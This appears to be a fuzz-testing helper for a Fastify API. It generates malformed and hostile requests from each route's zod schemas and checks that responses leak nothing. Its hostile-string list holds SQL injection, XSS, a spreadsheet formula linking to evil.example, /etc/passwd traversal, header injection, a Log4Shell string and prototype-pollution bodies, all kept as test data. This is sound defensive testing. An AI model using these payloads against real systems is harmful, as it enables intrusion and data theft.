import fc from 'fast-check';
import type { FastifyInstance, FastifySchema } from 'fastify';
import { sql } from 'kysely';
import { z } from 'zod';
import type { Db } from '../../src/platform/db/database';
import { isPostgres } from '../../src/platform/db/dialect';

// Bad requests for every API route, derived from the route's own zod schemas (kept by the route catalog), so a
// route added later is fuzzed without touching the tests. Used by fuzz.test.ts.

export interface ApiRoute {
  method: string;
  url: string;
  schema: { body?: z.ZodType; querystring?: z.ZodType; params?: z.ZodType };
  /** The route documents a body (a zod body schema): text/plain and odd JSON values reach its validator only. */
  hasBody: boolean;
}

/** Every route under /api as registered (HEAD copies of GET routes left out: same handler, same checks). */
export function apiRoutes(app: FastifyInstance): ApiRoute[] {
  return app.routeCatalog.flatMap((route) => {
    const methods = Array.isArray(route.method) ? route.method : [route.method];
    const schema = (route.schema ?? {}) as FastifySchema & Record<string, unknown>;
    const zodOf = (key: string) => (isZod(schema[key]) ? (schema[key] as z.ZodType) : undefined);
    return methods
      .filter((method) => method !== 'HEAD' && route.url.startsWith('/api/'))
      .map((method) => ({
        method,
        url: route.url,
        schema: { body: zodOf('body'), querystring: zodOf('querystring'), params: zodOf('params') },
        hasBody: zodOf('body') !== undefined,
      }));
  });
}

function isZod(value: unknown): boolean {
  return typeof value === 'object' && value !== null && typeof (value as z.ZodType).safeParse === 'function';
}

// ---------------------------------------------------------------------------------------------------------
// JSON Schema view of a zod schema: enough to know the shape (types, bounds, required keys) to break it.

interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  enum?: unknown[];
  const?: unknown;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  minLength?: number;
  maxLength?: number;
  minItems?: number;
  maxItems?: number;
}

function jsonSchemaOf(schema: z.ZodType): JsonSchema {
  return z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as JsonSchema;
}

function typeOf(schema: JsonSchema): string | undefined {
  if (schema.const !== undefined) return typeof schema.const;
  if (schema.enum) return 'enum';
  const options = schema.anyOf ?? schema.oneOf;
  if (options) return typeOf(options.find((option) => option.type !== 'null') ?? options[0]!);
  return Array.isArray(schema.type) ? schema.type.find((type) => type !== 'null') : schema.type;
}

/** A plain, probably valid value of the schema: the starting point that one mutation then breaks. */
function plainValue(schema: JsonSchema, depth = 0): unknown {
  if (schema.const !== undefined) return schema.const;
  if (schema.enum) return schema.enum[0];
  const options = schema.anyOf ?? schema.oneOf;
  if (options) return plainValue(options.find((option) => option.type !== 'null') ?? options[0]!, depth);
  const low = Math.max(schema.minimum ?? 1, (schema.exclusiveMinimum ?? 0) + 1);
  switch (typeOf(schema)) {
    case 'string':
      return 'a'.repeat(Math.max(1, schema.minLength ?? 1));
    case 'integer':
    case 'number':
      return Math.min(low, schema.maximum ?? low);
    case 'boolean':
      return false;
    case 'array':
      return depth > 4 || !schema.items
        ? []
        : Array.from({ length: schema.minItems ?? 0 }, () => plainValue(schema.items!, depth + 1));
    case 'object':
      return depth > 4
        ? {}
        : Object.fromEntries(
            Object.entries(schema.properties ?? {}).map(([key, value]) => [
              key,
              plainValue(value, depth + 1),
            ]),
          );
    default:
      return null;
  }
}

// ---------------------------------------------------------------------------------------------------------
// Hostile values.

export const ONE_MB = 'x'.repeat(1024 * 1024);

/** Strings that have broken real systems: control characters, bidi overrides, odd Unicode, injections. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '   \t\n ',
  '\u0000',
  'a\u0000b',
  'नमस्ते 🙏🪔🎉',
  '👨‍👩‍👧‍👦'.repeat(20),
  '\u202Egnp.exe\u202C',
  'مرحبا بالعالم',
  '\u200B\u200C\u200D\uFEFF',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
  '\uD800',
  '\uDFFF\uD800',
  "' OR '1'='1' --",
  'Robert"); DROP TABLE tickets;--',
  '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example")',
  '../../../../etc/passwd',
  '%00%0d%0a',
  '\r\nSet-Cookie: pwned=1',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell string itself, sent as data.
  '${jndi:ldap://example.invalid/a}',
  '{{constructor.constructor("return process")()}}',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  'é'.repeat(300),
  '𝕏'.repeat(200),
  'x'.repeat(4096),
];

export const HOSTILE_NUMBERS: readonly number[] = [
  -1,
  0,
  -0,
  0.5,
  1.5,
  -2.5,
  1e-9,
  21,
  101,
  1e6,
  2 ** 31,
  2 ** 53 + 2,
  1e21,
  1e308,
  -1e308,
  Number.MIN_VALUE,
];

const hostileString = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_STRINGS), weight: 6 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: fc.constant(ONE_MB), weight: 1 },
);
const hostileNumber = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_NUMBERS), weight: 4 },
  { arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }), weight: 1 },
  { arbitrary: fc.integer(), weight: 1 },
);
const anyJson = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  hostileNumber,
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.constant([]),
  fc.constant({}),
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
);

/** A value for one field: the plain one, a same-type hostile one, or one of the wrong type. */
function fieldValue(schema: JsonSchema, depth: number): fc.Arbitrary<unknown> {
  const type = typeOf(schema);
  const sameType: fc.Arbitrary<unknown>[] = [];
  if (type === 'string' || type === 'enum') sameType.push(hostileString);
  if (type === 'integer' || type === 'number') sameType.push(hostileNumber);
  if (type === 'array' && schema.items) {
    sameType.push(fc.array(fieldValue(schema.items, depth + 1), { maxLength: 3 }));
    const tooMany = (schema.maxItems ?? 0) + 1;
    if (schema.maxItems !== undefined && tooMany <= 2000)
      sameType.push(fc.constant(Array.from({ length: tooMany }, () => plainValue(schema.items!, depth + 1))));
  }
  if (type === 'object' && depth < 3) sameType.push(objectValue(schema, depth + 1));
  return fc.oneof(
    { arbitrary: fc.constant(plainValue(schema, depth)), weight: 2 },
    ...sameType.map((arbitrary) => ({ arbitrary, weight: 4 })),
    { arbitrary: anyJson, weight: 3 },
  );
}

const MISSING = Symbol('missing');

/** An object of the schema's keys, each possibly broken or missing, maybe with extra keys. */
function objectValue(schema: JsonSchema, depth = 0): fc.Arbitrary<Record<string, unknown>> {
  const properties = schema.properties ?? {};
  const fields = Object.fromEntries(
    Object.entries(properties).map(([key, value]) => [
      key,
      fc.oneof(
        { arbitrary: fc.constant<unknown>(MISSING), weight: 1 },
        { arbitrary: fieldValue(value, depth), weight: 4 },
      ),
    ]),
  );
  const extras = fc.oneof(
    { arbitrary: fc.constant({}), weight: 3 },
    {
      arbitrary: fc.dictionary(
        fc.constantFrom('role', 'isAdmin', 'user_id', 'userId', 'status', 'id', 'price', 'amount', 'admin'),
        anyJson,
        { maxKeys: 3 },
      ),
      weight: 1,
    },
  );
  return fc.tuple(fc.record(fields), extras).map(([record, extra]) => {
    const out: Record<string, unknown> = { ...extra };
    for (const [key, value] of Object.entries(record)) if (value !== MISSING) out[key] = value;
    return out;
  });
}

// ---------------------------------------------------------------------------------------------------------
// Whole requests.

export interface FuzzCase {
  /** The URL path with its parameters filled in (and encoded). */
  path: string;
  query: string;
  /** The body text to send, or undefined for none. */
  body: string | undefined;
  contentType: string | undefined;
  /** Every part passes the route's schemas (a well-formed request with hostile content). */
  valid: boolean;
  describe: string;
}

const paramValue = fc.oneof(
  {
    arbitrary: fc.constantFrom(...HOSTILE_STRINGS.filter((value) => value.length > 0 && value.length < 300)),
    weight: 5,
  },
  { arbitrary: fc.constantFrom('x'.repeat(65), 'x'.repeat(129), 'x'.repeat(2000)), weight: 2 },
  { arbitrary: fc.uuid(), weight: 1 },
  {
    arbitrary: fc.constantFrom('1', '0', '-1', '99999999999999999999', 'TKT-000001', 'RF-0000000001'),
    weight: 1,
  },
);

function queryValue(schema: JsonSchema): fc.Arbitrary<string | string[]> {
  const plain = String(plainValue(schema) ?? '');
  const single = fc.oneof(
    { arbitrary: fc.constant(plain), weight: 2 },
    { arbitrary: fc.constantFrom(...HOSTILE_STRINGS), weight: 5 },
    { arbitrary: hostileNumber.map(String), weight: 3 },
    { arbitrary: fc.constantFrom('Infinity', '-Infinity', '0x10', '1_000', '', '[]', 'true'), weight: 1 },
  );
  return fc.oneof(
    { arbitrary: single, weight: 4 },
    { arbitrary: fc.array(single, { minLength: 2, maxLength: 3 }), weight: 1 },
  );
}

function queryObject(schema: JsonSchema | undefined): fc.Arbitrary<Record<string, string | string[]>> {
  const properties = schema?.properties ?? {};
  const fields = Object.fromEntries(
    Object.entries(properties).map(([key, value]) => [key, fc.option(queryValue(value), { nil: undefined })]),
  );
  const extras = fc.dictionary(
    fc.constantFrom('role', 'admin', '__proto__', 'constructor', 'sort', 'where', '$where', 'limit[]'),
    fc.constantFrom(...HOSTILE_STRINGS.filter((value) => value.length < 300)),
    { maxKeys: 2 },
  );
  return fc.tuple(fc.record(fields, { requiredKeys: [] }), extras).map(([record, extra]) => {
    const out: Record<string, string | string[]> = { ...extra };
    for (const [key, value] of Object.entries(record)) if (value !== undefined) out[key] = value;
    return out;
  });
}

/**
 * Percent-encodes the UTF-8 bytes of a string. Unlike encodeURIComponent it never throws: a lone surrogate
 * becomes U+FFFD, as a browser would send it.
 */
export function percentEncode(value: string): string {
  let out = '';
  for (const byte of Buffer.from(value, 'utf8')) {
    const char = String.fromCharCode(byte);
    out += /[A-Za-z0-9\-_.~]/.test(char) ? char : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

function encodeQuery(query: Record<string, string | string[]>): string {
  const parts: string[] = [];
  for (const [key, value] of Object.entries(query))
    for (const item of Array.isArray(value) ? value : [value])
      parts.push(`${percentEncode(key)}=${percentEncode(item)}`);
  return parts.length > 0 ? `?${parts.join('&')}` : '';
}

/** What the server parses back from what we send, to ask the route's own schemas whether it is valid. */
function passes(schema: z.ZodType | undefined, value: unknown): boolean {
  return schema ? schema.safeParse(value).success : true;
}

function parsedQuery(query: string): Record<string, string | string[]> {
  const out: Record<string, string | string[]> = {};
  for (const [key, value] of new URLSearchParams(query)) {
    const previous = out[key];
    out[key] =
      previous === undefined ? value : Array.isArray(previous) ? [...previous, value] : [previous, value];
  }
  return out;
}

const BODY_SHAPES = (schema: JsonSchema | undefined): fc.Arbitrary<unknown> => {
  const objects = schema && typeOf(schema) === 'object' ? [objectValue(schema)] : [];
  return fc.oneof(
    ...objects.map((arbitrary) => ({ arbitrary, weight: 8 })),
    { arbitrary: anyJson, weight: 1 },
    { arbitrary: fc.constant(schema ? [plainValue(schema)] : []), weight: 1 },
  );
};

/** Generated requests for one route: broken or hostile params, query and body, per its schemas. */
export function requestCases(route: ApiRoute): fc.Arbitrary<FuzzCase> {
  const paramNames = [...route.url.matchAll(/:(\w+)/g)].map((match) => match[1]!);
  const querySchema = route.schema.querystring ? jsonSchemaOf(route.schema.querystring) : undefined;
  const bodySchema = route.schema.body ? jsonSchemaOf(route.schema.body) : undefined;
  const takesBody = route.method !== 'GET' && route.method !== 'DELETE';

  return fc
    .record({
      params: fc.tuple(...paramNames.map(() => paramValue)),
      query: querySchema ? queryObject(querySchema) : fc.constant({}),
      body:
        takesBody && route.hasBody
          ? BODY_SHAPES(bodySchema).map((value) => [value] as const)
          : fc.constant(null),
    })
    .map(({ params, query, body }) => {
      let path = route.url;
      const paramValues: Record<string, string> = {};
      paramNames.forEach((name, index) => {
        const value = params[index] as string;
        paramValues[name] = value;
        path = path.replace(`:${name}`, percentEncode(value));
      });
      const queryText = encodeQuery(query);
      const bodyText = body === null ? undefined : JSON.stringify(body[0]);
      const bodyValue = bodyText === undefined ? undefined : JSON.parse(bodyText);
      const sentParams = Object.fromEntries(
        Object.entries(paramValues).map(([key, value]) => [key, Buffer.from(value, 'utf8').toString('utf8')]),
      );
      const valid =
        passes(route.schema.params, sentParams) &&
        passes(route.schema.querystring, parsedQuery(queryText.slice(1))) &&
        passes(route.schema.body, bodyValue);
      return {
        path,
        query: queryText,
        body: bodyText,
        contentType: bodyText === undefined ? undefined : 'application/json',
        valid,
        describe: `${route.method} ${path}${queryText.slice(0, 300)} body=${(bodyText ?? '').slice(0, 300)}`,
      };
    });
}

/** Hand-written bad requests every route gets: broken JSON, 10 MB, wrong types of content, deep nesting. */
export function fixedCases(route: ApiRoute): FuzzCase[] {
  const path = route.url.replace(/:(\w+)/g, 'no-such-id');
  const cases: Array<
    Omit<FuzzCase, 'path' | 'query' | 'valid' | 'describe'> & { name: string; query?: string }
  > = [
    {
      name: 'a query string of 3,000 keys',
      body: undefined,
      contentType: undefined,
      query: `?${'k=v&'.repeat(3000)}`,
    },
    {
      name: 'a 6 KB hostile query',
      body: undefined,
      contentType: undefined,
      query: `?search=${percentEncode('\u0000😀\u202E'.repeat(300))}&page=${'9'.repeat(400)}&limit=-1e309`,
    },
    {
      name: 'broken percent-encoding',
      body: undefined,
      contentType: undefined,
      query: '?search=%E0%A4%A&page=%',
    },
    { name: 'invalid UTF-8 bytes', body: undefined, contentType: undefined, query: '?search=%FF%FE%C0%AF' },
    // Over Node's 16 KB header limit: the HTTP parser refuses it before any route (431, still the envelope).
    {
      name: 'a 20 KB query',
      body: undefined,
      contentType: undefined,
      query: `?search=${'y'.repeat(20_000)}`,
    },
  ];
  if (route.method !== 'GET' && route.method !== 'DELETE') {
    // These never reach a handler: the JSON parser, the body limit or the content-type check refuses them.
    cases.push(
      { name: 'truncated JSON', body: '{"quantity": 1, "eventId": ', contentType: 'application/json' },
      { name: 'single-quoted JSON', body: "{'quantity': 1}", contentType: 'application/json' },
      { name: 'a NUL byte as JSON', body: '\u0000', contentType: 'application/json' },
      { name: 'trailing comma', body: '[1,]', contentType: 'application/json' },
      {
        name: 'a 10 MB JSON body',
        body: JSON.stringify({ name: 'x'.repeat(10 * 1024 * 1024) }),
        contentType: 'application/json',
      },
      {
        name: 'a form body',
        body: 'quantity=1&role=admin',
        contentType: 'application/x-www-form-urlencoded',
      },
      { name: 'an XML body', body: '<order><quantity>1</quantity></order>', contentType: 'application/xml' },
      {
        name: 'a multipart body',
        body: '--x\r\n\r\n1\r\n--x--',
        contentType: 'multipart/form-data; boundary=x',
      },
      {
        name: 'prototype pollution',
        body: '{"__proto__": {"role": "admin"}, "constructor": {"prototype": {"role": "admin"}}}',
        contentType: 'application/json',
      },
    );
    if (route.hasBody) {
      // Well-formed JSON of the wrong kind: reaches the route's validator (never a handler without a schema).
      const depth = 20_000;
      cases.push(
        { name: 'text/plain JSON', body: '{"quantity": 1}', contentType: 'text/plain' },
        {
          name: 'deeply nested arrays',
          body: `${'['.repeat(depth)}${']'.repeat(depth)}`,
          contentType: 'application/json',
        },
        {
          name: 'deeply nested objects',
          body: `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`,
          contentType: 'application/json',
        },
        { name: 'a JSON array', body: '[{"quantity": 1}]', contentType: 'application/json' },
        { name: 'a JSON string', body: '"hello"', contentType: 'application/json' },
        { name: 'JSON null', body: 'null', contentType: 'application/json' },
        { name: 'an empty JSON body', body: '', contentType: 'application/json' },
        {
          name: 'a 1 MB string field',
          body: JSON.stringify({ name: ONE_MB, reason: ONE_MB }),
          contentType: 'application/json',
        },
      );
    }
  }
  const withPath = cases.map((item) => ({ ...item, path }));
  if (route.url.includes(':')) {
    for (const [name, value] of [
      ['a lone % in the path', '%'],
      ['invalid UTF-8 in the path', '%FF%FE'],
      ['an encoded slash and dots in the path', '..%2F..%2Fetc%2Fpasswd'],
      ['a 3,000 character path parameter', 'p'.repeat(3000)],
    ] as const) {
      withPath.push({
        name,
        path: route.url.replace(/:(\w+)/g, value),
        body: undefined,
        contentType: undefined,
      });
    }
  }
  return withPath.map((item) => ({
    path: item.path,
    query: item.query ?? '',
    body: item.body,
    contentType: item.contentType,
    valid: false,
    describe: `${route.method} ${item.path.slice(0, 200)} [${item.name}]`,
  }));
}

// ---------------------------------------------------------------------------------------------------------
// What must hold for every answer, and the "nothing written" check.

const LEAKS: Array<[RegExp, string]> = [
  [/\n\s+at [\w$.<>[\] ]+ \(/, 'a stack trace'],
  [/\bat (async )?[\w$.]+ \((\/|file:|node:)/, 'a stack frame'],
  [/(\/|\\)(node_modules|apps|packages|src)(\/|\\)/, 'an internal file path'],
  [/\.(ts|js|mjs):\d+/, 'a source location'],
  [
    /SQLITE_|SqliteError|syntax error at or near|violates (not-null|unique|foreign key)|relation "\w+"/i,
    'a database error',
  ],
  [/\b(TypeError|RangeError|ReferenceError)\b/, 'a JavaScript error name'],
];

export function problemsWith(status: number, text: string): string[] {
  const problems: string[] = [];
  if (status >= 500) problems.push(`status ${status}`);
  for (const [pattern, what] of LEAKS) if (pattern.test(text)) problems.push(`leaks ${what}`);
  if (status >= 400) {
    let body: unknown;
    try {
      body = JSON.parse(text);
    } catch {
      problems.push('an error that is not JSON');
    }
    const envelope = body as { success?: unknown; error?: unknown; code?: unknown } | undefined;
    if (
      body !== undefined &&
      !(
        envelope?.success === false &&
        typeof envelope.error === 'string' &&
        typeof envelope.code === 'string'
      )
    )
      problems.push('an error without the {success:false, error, code} envelope');
  }
  return problems;
}

/** Row counts of every table of ours (kysely's own bookkeeping left out), found at run time. */
export async function rowCounts(db: Db): Promise<Record<string, number>> {
  const tables = isPostgres(db)
    ? await sql<{ name: string }>`select table_name as name from information_schema.tables
        where table_schema = current_schema() and table_type = 'BASE TABLE'`.execute(db)
    : await sql<{
        name: string;
      }>`select name from sqlite_master where type = 'table' and name not like 'sqlite_%'`.execute(db);
  const counts: Record<string, number> = {};
  for (const { name } of tables.rows) {
    // ticket_qr_images is a cache that reads fill (a ticket's QR image, made once): not a write of the request's.
    if (name.startsWith('kysely_') || name === 'ticket_qr_images') continue;
    const row = await sql<{
      count: number | string;
    }>`select count(*) as count from ${sql.table(name)}`.execute(db);
    counts[name] = Number(row.rows[0]?.count ?? 0);
  }
  return counts;
}

/** Strings that break databases and text handling rather than validators; each goes into every string field. */
const CRITICAL_STRINGS = ['a\u0000b', '\uD800x', '\u202Eabc\u202C', 'नमस्ते😀🪔', "x' OR '1'='1"];

/**
 * Well-formed requests that put each critical string into each string field (params, query, body) of an
 * otherwise plain request, one field at a time: systematic where the random phase is not (a NUL byte in a
 * text column is refused by PostgreSQL, not by SQLite).
 */
export function criticalCases(route: ApiRoute): FuzzCase[] {
  const paramNames = [...route.url.matchAll(/:(\w+)/g)].map((match) => match[1]!);
  const bodySchema = route.schema.body ? jsonSchemaOf(route.schema.body) : undefined;
  const querySchema = route.schema.querystring ? jsonSchemaOf(route.schema.querystring) : undefined;
  const baseParams = Object.fromEntries(paramNames.map((name) => [name, 'no-such-id']));
  const baseBody =
    bodySchema && route.method !== 'GET' && route.method !== 'DELETE' ? plainValue(bodySchema) : undefined;
  const cases: FuzzCase[] = [];

  const add = (
    params: Record<string, string>,
    query: Record<string, string>,
    body: unknown,
    what: string,
  ) => {
    let path = route.url;
    for (const [name, value] of Object.entries(params)) path = path.replace(`:${name}`, percentEncode(value));
    const queryText = encodeQuery(query);
    const bodyText = body === undefined ? undefined : JSON.stringify(body);
    const sent = (value: string) => Buffer.from(value, 'utf8').toString('utf8');
    const valid =
      passes(route.schema.params, Object.fromEntries(Object.entries(params).map(([k, v]) => [k, sent(v)]))) &&
      passes(route.schema.querystring, parsedQuery(queryText.slice(1))) &&
      passes(route.schema.body, bodyText === undefined ? undefined : JSON.parse(bodyText));
    if (!valid) return;
    cases.push({
      path,
      query: queryText,
      body: bodyText,
      contentType: bodyText === undefined ? undefined : 'application/json',
      valid,
      describe: `${route.method} ${path}${queryText} body=${(bodyText ?? '').slice(0, 300)} [${what}]`,
    });
  };

  for (const text of CRITICAL_STRINGS) {
    for (const name of paramNames) add({ ...baseParams, [name]: text }, {}, baseBody, `param ${name}`);
    for (const [key, schema] of Object.entries(querySchema?.properties ?? {}))
      if (typeOf(schema) === 'string') add(baseParams, { [key]: text }, baseBody, `query ${key}`);
    if (baseBody !== undefined && bodySchema)
      for (const path of stringLeaves(bodySchema, baseBody))
        add(baseParams, {}, withLeaf(baseBody, path, text), `body ${path.join('.')}`);
  }
  return cases;
}

/** Paths to the string fields of a plain body (array items: their first element). */
function stringLeaves(
  schema: JsonSchema,
  value: unknown,
  path: Array<string | number> = [],
): Array<Array<string | number>> {
  const type = typeOf(schema);
  if (type === 'string') return [path];
  if (type === 'object' && value && typeof value === 'object') {
    const properties =
      schema.properties ??
      (schema.anyOf ?? schema.oneOf)?.find((option) => option.properties)?.properties ??
      {};
    return Object.entries(properties).flatMap(([key, child]) =>
      key in (value as object)
        ? stringLeaves(child, (value as Record<string, unknown>)[key], [...path, key])
        : [],
    );
  }
  if (type === 'array' && schema.items) {
    const items = Array.isArray(value) && value.length > 0 ? value : [plainValue(schema.items)];
    return stringLeaves(schema.items, items[0], [...path, 0]);
  }
  return [];
}

function withLeaf(value: unknown, path: Array<string | number>, leaf: unknown): unknown {
  if (path.length === 0) return leaf;
  const [head, ...rest] = path;
  if (typeof head === 'number') {
    const items = Array.isArray(value) && value.length > 0 ? [...value] : [undefined];
    items[head] = withLeaf(items[head], rest, leaf);
    return items;
  }
  const object = { ...(value as Record<string, unknown>) };
  object[head!] = withLeaf(object[head!], rest, leaf);
  return object;
}
